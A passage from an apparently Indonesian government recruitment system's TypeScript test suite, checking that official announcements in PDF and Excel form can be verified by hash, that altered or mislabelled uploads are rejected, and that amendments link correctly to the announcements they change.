    await workbook.xlsx.load(xlsxLagi.rawPayload as unknown as ArrayBuffer);
    let status: unknown;
    (workbook.worksheets[0] as ExcelJS.Worksheet).eachRow((row) => {
      if (row.getCell(5).value === noPeserta) status = row.getCell(8).value;
    });
    expect(status).toBe('Tidak Memenuhi Syarat');
    const line = pdfText(pdfLagi.rawPayload)
      .text.split('\n')
      .find((l) => l.includes(noPeserta));
    expect(line).toContain('Tidak Memenuhi');

    // The public check knows the sheet and confirms it; an altered one or a mislabelled one not.
    const keaslian = await client.request({ url: `/api/cek-dokumen/${dokumen.kode}` });
    expect(keaslian.json()).toMatchObject({ sha256: dokumen.sha256, xlsx: dokumen.xlsx, diubahOleh: null });
    expect((await cek(dokumen.kode, sebelum.xlsx, XLSX)).json()).toEqual({ cocok: true, sha256: dokumen.xlsx?.sha256 });
    expect((await cek(dokumen.kode, sebelum.pdf, 'application/pdf')).json()).toMatchObject({ cocok: true });
    const altered = Buffer.from(sebelum.xlsx);
    altered.writeUInt8(altered.readUInt8(altered.length - 30) ^ 1, altered.length - 30);
    expect((await cek(dokumen.kode, altered, XLSX)).json()).toMatchObject({ cocok: false });
    const notZip = await cek(dokumen.kode, sebelum.pdf.subarray(0, 200), XLSX);
    expect(notZip.statusCode).toBe(400);
    expect(notZip.json()).toMatchObject({ error: 'BUKAN_XLSX' });
    const asPdf = await cek(dokumen.kode, sebelum.xlsx, 'application/pdf');
    expect(asPdf.statusCode).toBe(400);
    // No larger than the sheet that was issued.
    const larger = await cek(dokumen.kode, Buffer.concat([sebelum.xlsx, Buffer.alloc(10)]), XLSX);
    expect(larger.statusCode).toBe(413);
    // The minutes have no sheet.
    const minutes = (await post('/berita-acara', { ...beritaAcara, nomor: 'BA/200/2026' })).json();
    expect(minutes.xlsx).toBeNull();
    expect((await unduh(minutes.kode, true)).statusCode).toBe(404);
  }, 60_000);

  it('publishes a later change as an amendment naming the announcement it amends; the earlier one stays authentic', async () => {
    expect(sebelum.kode, 'the announcement of the previous test').not.toBe('');
    const perubahan = dibuat(await umumkan(ctx, client, admin, { ...pengumuman, nomor: '800/201/BKPSDM/2026' }));
    expect(perubahan.mengubah).toEqual({ kode: sebelum.kode, nomor: sebelum.nomor, tanggal: pengumuman.tanggal });
    expect(perubahan.diubahOleh).toBeNull();

    // The amendment says so in its heading and opening, and lists the applicant as now decided.
    const { text } = pdfText((await unduh(perubahan.kode)).rawPayload);
    expect(text).toContain(`PERUBAHAN ATAS PENGUMUMAN NOMOR ${sebelum.nomor}`);
    expect(text).toContain(`Perubahan atas Pengumuman Nomor ${sebelum.nomor}`);
    expect(text).toContain(`(kode dokumen ${sebelum.kode})`);
    const line = text.split('\n').find((l) => l.includes(noPeserta));
    expect(line).toContain('Memenuhi Syarat');
    expect(line).not.toContain('Tidak Memenuhi');

    // Both listed; the earlier one names its amendment, is served as issued and still checks.
    const status = (await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin })).json();
    const listed = new Map(status.dokumen.map((d: { kode: string }) => [d.kode, d]));
    expect(listed.get(perubahan.kode)).toMatchObject({ mengubah: { kode: sebelum.kode } });
    expect(listed.get(sebelum.kode)).toMatchObject({
      diubahOleh: { kode: perubahan.kode, nomor: '800/201/BKPSDM/2026' },
    });
    expect((await unduh(sebelum.kode)).rawPayload.equals(sebelum.pdf)).toBe(true);
    expect((await unduh(sebelum.kode, true)).rawPayload.equals(sebelum.xlsx)).toBe(true);
    const keaslian = await client.request({ url: `/api/cek-dokumen/${sebelum.kode}` });
    expect(keaslian.json()).toMatchObject({ diubahOleh: { kode: perubahan.kode } });
    expect((await cek(sebelum.kode, sebelum.pdf, 'application/pdf')).json()).toMatchObject({ cocok: true });
    expect((await cek(sebelum.kode, sebelum.xlsx, XLSX)).json()).toMatchObject({ cocok: true });
    const baru = await client.request({ url: `/api/cek-dokumen/${perubahan.kode}` });
    expect(baru.json()).toMatchObject({ mengubah: { kode: sebelum.kode, nomor: sebelum.nomor } });
    const audit = await ctx.db
      .selectFrom('audit_event')
      .select('details')
      .where('entity_id', '=', perubahan.kode)
      .executeTakeFirstOrThrow();
    expect(audit.details).toMatchObject({ mengubah: sebelum.kode, xlsxSha256: perubahan.xlsx?.sha256 });
  }, 60_000);

  it('answers 410 for the sheet of an announcement issued before sheets were kept', async () => {
    // Issued before migration 0034: no sheet was kept with it.
    await ctx.db
      .updateTable('dokumen_resmi')
      .set({ xlsx_sha256: null, xlsx_ukuran: null })
      .where('kode', '=', sebelum.kode)
      .execute();
    const res = await unduh(sebelum.kode, true);
    expect(res.statusCode).toBe(410);
    expect(res.json()).toMatchObject({
      error: 'SALINAN_EXCEL_TIDAK_DISIMPAN',
      message: expect.stringMatching(/tidak disimpan/),
    });
    expect((await cek(sebelum.kode, sebelum.xlsx, XLSX)).statusCode).toBe(410);
  });
});
